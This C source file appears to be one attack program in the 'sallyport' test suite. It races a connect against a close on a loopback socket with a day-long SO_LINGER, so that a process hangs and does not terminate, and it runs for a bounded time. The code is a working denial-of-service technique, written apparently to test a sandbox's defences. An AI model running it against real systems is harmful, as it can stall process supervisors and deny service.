// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

// linger: attacks who connects in the name of a program: a socket that has data to send
// and no peer that takes it is closed while its connect is being answered, so that the
// last descriptor is not the program's own, and its close waits for a day (SO_LINGER).
// Winning: whoever holds it does not end, which the caller sees. Bound: 2 seconds.
//
// usage: linger

#include "attack.h"
#include <netinet/in.h>
#include <netinet/tcp.h>

static int sock;
static struct sockaddr_in at = {.sin_family = AF_INET};
static double delay;
static atomic_int go;

static void *closer(void *arg) {
	(void)arg;
	while (!atomic_load(&go))
		;
	for (double end = now() + delay; now() < end;)
		;
	close(sock);
	return 0;
}

/* One connect of a socket that is connected, and a close meanwhile. */
static void race(void) {
	pthread_t t;
	pthread_create(&t, 0, closer, 0);
	usleep(300);
	atomic_store(&go, 1);
	connect(sock, (struct sockaddr *)&at, sizeof at);
	pause();
}

int main(void) {
	static char data[1 << 16];
	const int small = 4096, never = 255, patient = 60000; /* ms; the kernel keeps each socket so long */
	const struct linger day = {1, 86400};
	socklen_t size = sizeof at;
	begin();
	at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	int l = socket(AF_INET, SOCK_STREAM, 0);
	if (l < 0 || bind(l, (struct sockaddr *)&at, size) != 0 || listen(l, 1000) != 0 || getsockname(l, (struct sockaddr *)&at, &size) != 0) {
		printf("LOST no sockets here: %s\n", strerror(errno));
		return 0;
	}
	guard(); /* its own close may turn out to be the last */
	long tries = 0;
	for (; in_time(); tries++) {
		sock = socket(AF_INET, SOCK_STREAM, 0);
		setsockopt(sock, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
		connect(sock, (struct sockaddr *)&at, sizeof at);
		while (send(sock, data, sizeof data, MSG_DONTWAIT) > 0)
			;
		setsockopt(sock, IPPROTO_IP, 21 /* IP_MINTTL: no packet of the peer counts */, &never, sizeof never);
		setsockopt(sock, IPPROTO_TCP, TCP_USER_TIMEOUT, &patient, sizeof patient);
		setsockopt(sock, SOL_SOCKET, SO_LINGER, &day, sizeof day);
		delay = tries % 125 * 2e-6;
		pid_t pid = fork();
		if (pid == 0)
			race();
		close(sock);
		usleep(3000);
		kill(pid, SIGKILL);
		waitpid(pid, 0, 0);
	}
	verdict(0, tries, "linger");
}
